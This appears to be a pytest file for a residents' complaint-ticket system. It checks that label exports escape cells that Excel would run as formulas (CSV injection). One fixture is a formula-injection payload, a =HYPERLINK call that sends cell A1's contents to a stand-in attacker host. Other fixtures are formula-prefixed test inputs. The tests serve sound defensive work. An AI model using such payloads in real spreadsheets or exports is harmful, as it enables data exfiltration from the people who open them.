"""Exports open in Excel at the centre: a resident's text must never run there as a formula (CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from sqlmodel import select

from handlers import admin
from nlp.taxonomy import Taxonomy
from storage.models import Ticket
from tests.members import GroupMember

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"幸福小区3栋楼下那个东西又弄得乱七八糟的没人管")'
DASH = "-幸福小区3栋门口那个东西又弄得乱七八糟的没人管"


def test_a_correction_that_reads_as_a_formula_is_exported_as_text_and_still_trains(
    resident, wechat_user, rt, demo, app, session, tmp_path: Path
) -> None:
    centre = GroupMember(rt, "zhihui", "sup-chat")
    # two residents: one sending both would be sending the same problem again (no second ticket)
    for sender, text, label in ((resident, LINK, "环境卫生"), (wechat_user("o-demo-resident-2"), DASH, "噪音扰民")):
        sender.say(text)
        ticket = session.exec(select(Ticket).order_by(Ticket.id.desc())).first()
        assert "已改为" in centre.say(f"改类 {ticket.id} {label}")
    out = tmp_path / "labels.csv"
    assert app.test_cli_runner().invoke(args=["nlp", "export-labels", str(out)]).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert [(r["text"], r["label"]) for r in rows] == [("'" + LINK, "sanitation"), ("'" + DASH, "noise")]

    # read back by `nlp train`: the learner skips the quote (not a word), and the labels come through as they were
    trained = tmp_path / "trained.yaml"
    args = ["nlp", "train", str(out), "--text-column", "text", "--label-column", "label", "--out", str(trained)]
    result = app.test_cli_runner().invoke(args=args)
    assert result.exit_code == 0, result.output
    assert {c.name for c in Taxonomy.from_file(trained).categories} == {"环境卫生", "噪音扰民", "其他"}


def test_only_cells_a_spreadsheet_would_calculate_are_quoted() -> None:
    assert [admin.csv_safe(c) for c in ("=1+1", "+86 13800001001", "@SUM(A1)", "\t=1", "\r=1")] == [
        "'=1+1",
        "'+86 13800001001",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
    ]
    # numbers stay numbers in Excel; "-3" cannot call anything
    assert [admin.csv_safe(c) for c in ("-3", "+5", "-0.5", -3, 7, "楼道灯坏了", "")] == [
        "-3",
        "+5",
        "-0.5",
        -3,
        7,
        "楼道灯坏了",
        "",
    ]
